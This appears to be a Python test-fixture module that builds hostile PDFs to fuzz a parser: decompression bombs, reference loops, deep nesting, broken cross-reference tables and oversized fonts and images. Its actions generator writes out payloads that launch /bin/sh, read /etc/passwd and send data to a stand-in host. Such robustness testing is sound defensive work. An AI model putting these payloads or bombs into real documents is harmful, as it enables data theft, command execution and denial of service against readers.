"""Hostile PDFs: loops, depths, sizes, bombs, actions, and structure that lies."""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable

from tests.fakes import hostile
from tests.fakes.documents import Pdf, show

_FLATE = "/Filter /FlateDecode"


def _pdf(content: str = "") -> Pdf:
    return Pdf().page(content or show("The page"))


def _bomb(chance: random.Random) -> bytes:
    size, layers = chance.choice((40, 300, 900)) * 1_000_000, chance.choice((1, 2, 3))
    packer = zlib.compressobj(9)
    piece = chance.choice((b" ", b"q ", b"(x) Tj ", b"0 ")) * 100_000
    data = b"".join(packer.compress(piece) for _ in range(size // len(piece))) + packer.flush()
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    pdf = Pdf()
    names = " ".join(["/FlateDecode"] * layers)
    return pdf.page_of(pdf.stream(data, f"/Filter [{names}]")).bytes()


def _page_tree(chance: random.Random) -> bytes:
    pdf = _pdf()
    how = chance.randrange(4)
    if how == 0:
        return hostile.page_tree_loop()
    if how == 1:
        pdf.objects[2] = b"<< /Type /Pages /Count %d /Kids [%d 0 R] >>" % (
            chance.choice((-1, 0, 2**31, 2**63)), pdf.pages[0])  # fmt: skip
    elif how == 2:
        last = pdf.pages[0]
        for _ in range(chance.choice((100, 5_000, 60_000))):
            last = pdf.add(b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % last)
        pdf.objects[2] = b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % last
    else:
        pdf.objects[2] = b"<< /Type /Pages /Count 3 /Kids [999999 0 R null (x)] >>"
    return pdf.bytes()


def _many_pages(chance: random.Random) -> bytes:
    pdf = _pdf()
    count = chance.choice((6_000, 20_000, 300_000))
    kids = b" ".join([b"%d 0 R" % pdf.pages[0]] * count)
    pdf.objects[2] = b"<< /Type /Pages /Count %d /Kids [%b] >>" % (count, kids)
    return pdf.bytes()


def _huge_page(chance: random.Random) -> bytes:
    pdf = _pdf()
    box = chance.choice(
        ("0 0 1e9 1e9", "0 0 -5 -5", "1e38 1e38 -1e38 -1e38", "0 0 0 0", "a b c d",
         "0 0 99999999999999999999 1", "0 0 14400000 14400000")
    ).encode()  # fmt: skip
    page = pdf.objects[pdf.pages[0]]
    pdf.objects[pdf.pages[0]] = page.replace(b"0 0 612 792", box) + b" "
    return pdf.bytes()


def _endless(chance: random.Random) -> bytes:
    pdf = Pdf()
    count = chance.choice((20_000, 200_000, 800_000))
    words = b"BT /F1 9 Tf 1 0 0 1 %d 9 Tm (words) Tj ET\n" % chance.randrange(600) * count
    return pdf.page_of(pdf.stream(zlib.compress(words, 1), _FLATE)).bytes()


def _deep(chance: random.Random) -> bytes:
    depth = chance.choice((500, 20_000, 400_000))
    begin, end = chance.choice(((b"[", b"]"), (b"<< /A ", b" >>"), (b"(", b")")))
    pdf = _pdf()
    pdf.add(begin * depth + end * depth)
    pdf.catalog = f"/Deep {max(pdf.objects)} 0 R"
    return pdf.bytes()


def _form_loop(chance: random.Random) -> bytes:
    pdf = Pdf()
    number = max(pdf.objects) + 1
    width = chance.choice((1, 2, 12))
    body = b"/Me Do " * width
    entries = (
        f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
        f"/Resources << /XObject << /Me {number + chance.choice((0, 1))} 0 R >> >>"
    )
    pdf.stream(body, entries)
    pdf.stream(body, entries.replace(f"{number + 1} 0 R", f"{number} 0 R"))
    return pdf.page("/Me Do", f"/XObject << /Me {number} 0 R >>").bytes()


def _outline(chance: random.Random) -> bytes:
    if chance.random() < 0.3:
        return hostile.outline_loop()
    count = chance.choice((3_000, 30_000))
    return _pdf().outline([(1, "x" * chance.choice((1, 3_000)), 0)] * count).bytes()


def _cross_references(chance: random.Random) -> bytes:
    data = _pdf().bytes()
    place = data.rfind(b"startxref")
    how = chance.randrange(4)
    if how == 0:
        return data[:place] + b"startxref\n%d\n%%%%EOF" % chance.choice((0, 5, 2**40, place))
    if how == 1:
        table = data.rfind(b"xref", 0, place)
        return data.replace(b"trailer\n<<", b"trailer\n<< /Prev %d" % table, 1)
    if how == 2:
        return data[: chance.randrange(20, place)]
    return data.replace(b" obj", b" obj " + b"%" * 1_000, 3)


def _actions(chance: random.Random) -> bytes:
    action = chance.choice(
        ("/S /JavaScript /JS (app.launchURL('http://x.invalid'))", "/S /Launch /F (/bin/sh)",
         "/S /URI /URI (http://x.invalid/leak)", "/S /SubmitForm /F (http://x.invalid)",
         "/S /GoToR /F (//host/share/x.pdf)", "/S /ImportData /F (/etc/passwd)")
    )  # fmt: skip
    pdf = _pdf()
    pdf.catalog = f"/OpenAction << {action} >> /AA << /WC << {action} >> >>"
    return pdf.bytes()


def _fonts(chance: random.Random) -> bytes:
    pdf = Pdf()
    program = pdf.stream(chance.randbytes(chance.choice((10, 4_000))), chance.choice(
        ("", "/Length1 2000000000", "/Subtype /Type1C", "/Subtype /OpenType")))  # fmt: skip
    descriptor = pdf.add(b"<< /Type /FontDescriptor /FontName /X /FontFile2 %d 0 R >>" % program)
    widths = b" ".join([b"1e9"] * chance.choice((1, 60_000)))
    font = pdf.add(
        b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 0 /LastChar 99999 "
        b"/Widths [%b] /FontDescriptor %d 0 R /ToUnicode %d 0 R >>"
        % (widths, descriptor, pdf.stream(b"1 begincodespacerange <00> <FFFFFFFF> " * 2_000))
    )
    pdf.fonts = f"/F1 {font} 0 R"
    return pdf.page(show("words")).bytes()


def _images(chance: random.Random) -> bytes:
    pdf = Pdf()
    size = chance.choice((1, 60_000, 2_000_000_000))
    filters = chance.choice(("/DCTDecode", "/JBIG2Decode", "/JPXDecode", "/CCITTFaxDecode"))
    number = pdf.stream(
        chance.randbytes(300),
        f"/Type /XObject /Subtype /Image /Width {size} /Height {size} /BitsPerComponent 8 "
        f"/ColorSpace /DeviceRGB /Filter {filters}",
    )
    return pdf.page("/I Do", f"/XObject << /I {number} 0 R >>").bytes()


def _mutated(chance: random.Random) -> bytes:
    pdf = Pdf().page(show("Words", size=20) + show("More", y=600)).page(show("Next"))
    return hostile.mutated(pdf.bytes(), chance)


FAMILIES: dict[str, Callable[[random.Random], bytes]] = {
    "bomb": _bomb,
    "page tree": _page_tree,
    "many pages": _many_pages,
    "huge page": _huge_page,
    "endless page": _endless,
    "deep": _deep,
    "form loop": _form_loop,
    "outline": _outline,
    "cross references": _cross_references,
    "actions": _actions,
    "fonts": _fonts,
    "images": _images,
    "broken": _mutated,
}
